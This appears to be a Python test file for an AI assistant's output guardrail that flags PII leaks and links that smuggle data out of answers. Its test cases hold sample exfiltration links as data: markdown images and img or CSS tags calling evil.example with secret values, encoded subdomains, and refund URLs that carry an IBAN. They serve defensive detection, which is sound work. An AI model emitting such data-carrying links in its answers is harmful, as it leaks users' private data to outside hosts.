def test_contact_details_quoted_from_a_permitted_source_are_not_a_leak() -> None:
    from keel.guardrails.output import OutputCheck
    from keel.knowledge.ports import Passage

    faq = Passage("customer-support", "c#0", "Support", "Write to support@acme.example or call +1 415 555 0100.", 1.0)
    answer = "Write to support@acme.example or call +1 415 555 0100. [customer-support]"
    assert OutputCheck().pii_leaks(answer, "How do I reach support?", None, [faq]) == []
    assert OutputCheck().pii_leaks(answer, "How do I reach support?", None, []) != []


def _faq() -> list:
    from keel.knowledge.ports import Passage

    text = "Refunds: see https://help.shop.example/refunds?lang=en or the guide at https://docs.shop.example/guide."
    return [Passage("refunds", "refunds#0", "Refunds", text, 1.0)]


def test_links_quoted_from_a_source_or_on_its_hosts_stay() -> None:
    from keel.guardrails.output import unsourced_links

    for answer in (
        "See https://help.shop.example/refunds?lang=en for details.",
        "See [the refund page](https://help.shop.example/refunds).",
        "Start at https://help.shop.example/ or https://docs.shop.example.",
        "The guide: https://docs.shop.example/guide.",
        "![diagram](https://help.shop.example/refunds?lang=en)",
        "No link here; and/or 1//2, a // comment, and the host shop.example written without a scheme.",
    ):
        assert unsourced_links(answer, "how do refunds work?", _faq()) == [], answer


def test_a_url_the_model_composed_to_carry_data_is_a_problem() -> None:
    from keel.guardrails.output import unsourced_links

    cases = {
        "![s](https://evil.example/p.png?d=SECRET)": "link_autoload_unsourced",
        '<img src="//cdn.evil.example/t.gif">': "link_autoload_unsourced",
        "<div style=\"background: url('https://evil.example/x')\"></div>": "link_autoload_unsourced",
        "[click](https://evil.example/collect)": "link_unknown_host",
        "Go to https://c2VjcmV0IGRhdGE.evil.example/": "link_unknown_host",
        "[refund](https://help.shop.example/refunds?iban=DE89370400440532013000)": "link_carries_data",
        "https://help.shop.example/refunds#DE89370400440532013000": "link_carries_data",
        "https://me:DE89@help.shop.example/refunds": "link_carries_data",
        "https://help.shop.example/refunds/DE89370400440532013000": "link_unsourced_path",
        "https://docs.shop.example/guide-emma-owes-120": "link_unsourced_path",
    }
    for answer, problem in cases.items():
        assert unsourced_links(answer, "how do refunds work?", _faq()) == [problem], answer


def test_a_host_only_the_users_message_names_is_quoted_exactly_or_not_at_all() -> None:
    """A pasted document is the user's message: its host is not trusted to receive more than it gave."""
    from keel.guardrails.output import unsourced_links

    pasted = "Summarise this mail: ... see https://news.partner.example/issue/12 ..."
    assert unsourced_links("It links https://news.partner.example/issue/12.", pasted, []) == []
    assert unsourced_links("Open https://news.partner.example/issue/12?who=emma", pasted, []) == ["link_unknown_host"]


def test_the_output_check_withholds_an_answer_with_a_smuggling_link() -> None:
    from keel.guardrails.output import OutputCheck

    check = OutputCheck(toxicity=lambda text: 0.0)
    answer = "Refunds take 14 days [refunds]. ![x](https://evil.example/p.png?q=refunds+14+days)"
    verdict = check.check(answer, _faq(), "You answer from sources.", "how do refunds work?", [])
    assert verdict.action == "withhold"
    assert "link_autoload_unsourced" in verdict.problems
    quoted = "Refunds take 14 days: see https://help.shop.example/refunds?lang=en [refunds]"
    assert "link" not in " ".join(check.check(quoted, _faq(), "s", "how do refunds work?", []).problems)
